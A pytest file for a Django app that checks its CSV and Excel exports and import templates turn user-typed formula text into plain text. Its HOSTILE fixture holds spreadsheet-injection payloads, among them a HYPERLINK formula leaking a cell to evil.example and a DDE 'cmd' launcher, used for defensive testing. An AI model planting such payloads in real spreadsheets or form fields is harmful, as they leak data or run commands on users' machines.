"""Issue 10, item 4: text typed by users (unit names and codes, task and campaign titles,
activity titles and places) is never a formula in any spreadsheet the app writes: the activity
list (.csv, .xlsx), the progress table (.xlsx), the targets export (.xlsx) and the import
templates — all through common.spreadsheets."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities import services
from campaigns.models import Campaign, TargetTask
from common.spreadsheets import FORMULA_STARTS
from tests.factories import ActivityFactory
from units.models import Unit

pytestmark = pytest.mark.django_db

HOSTILE = {
    "unit_name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "unit_code": "+CMD",
    "task_title": "@SUM(1+1)",
    "campaign_name": "-2+3",
    "title": "=1+1",
    "place": "\t=cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(tree, staff, task, targets):
    Unit.objects.filter(pk=tree.branch_a1.pk).update(
        name=HOSTILE["unit_name"], code=HOSTILE["unit_code"]
    )
    TargetTask.objects.filter(pk=task.pk).update(title=HOSTILE["task_title"])
    Campaign.objects.filter(pk=task.campaign_id).update(name=HOSTILE["campaign_name"])
    tree.branch_a1.refresh_from_db()
    activity = ActivityFactory(
        unit=tree.branch_a1,
        campaign=task.campaign,
        created_by=staff,
        title=HOSTILE["title"],
        place=HOSTILE["place"],
        tasks=[task],
    )
    # Submitted: a draft is its unit's own and is in no leader's export (issue 11).
    services.activity_submit(actor=staff, activity=activity)
    return tree


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


def _assert_no_formula_in_xlsx(data: bytes, expected_texts) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in expected_texts:
        assert any(text in value for value in texts), text  # kept as text, unchanged


def test_the_activity_list_csv_defuses_every_text_cell(client, hostile, leader):
    client.force_login(leader)

    data = _body(client.get(reverse("dashboards:activities_csv")))

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE["unit_name"] in fields
    assert "'" + HOSTILE["unit_code"] in fields
    assert "'" + HOSTILE["title"] in fields


def test_the_activity_list_xlsx_has_no_formula(client, hostile, leader):
    client.force_login(leader)

    data = _body(client.get(reverse("dashboards:activities_xlsx")))

    _assert_no_formula_in_xlsx(data, [HOSTILE["unit_name"], HOSTILE["unit_code"], HOSTILE["title"]])


def test_the_progress_table_has_no_formula(client, hostile, leader):
    client.force_login(leader)

    data = _body(client.get(reverse("dashboards:progress_export", args=[hostile.committee_a.pk])))

    _assert_no_formula_in_xlsx(
        data, [HOSTILE["unit_name"], HOSTILE["unit_code"], HOSTILE["task_title"]]
    )
    cell_styles = [
        cell.quotePrefix
        for row in load_workbook(io.BytesIO(data)).active.iter_rows()
        for cell in row
        if cell.value == HOSTILE["unit_name"]
    ]
    assert cell_styles == [True]  # editing it in Excel keeps it text


def test_the_targets_export_has_no_formula(client, hostile, admin_user, task):
    client.force_login(admin_user)

    data = _body(client.get(reverse("campaigns:targets_export", args=[task.campaign_id])))

    _assert_no_formula_in_xlsx(
        data, [HOSTILE["unit_name"], HOSTILE["unit_code"], HOSTILE["task_title"]]
    )


@pytest.mark.parametrize("kind", ["units", "members"])
def test_the_import_templates_have_no_formula(client, admin_user, kind):
    client.force_login(admin_user)

    data = _body(client.get(reverse("units:import_template", args=[kind, "xlsx"])))

    _assert_no_formula_in_xlsx(data, [])
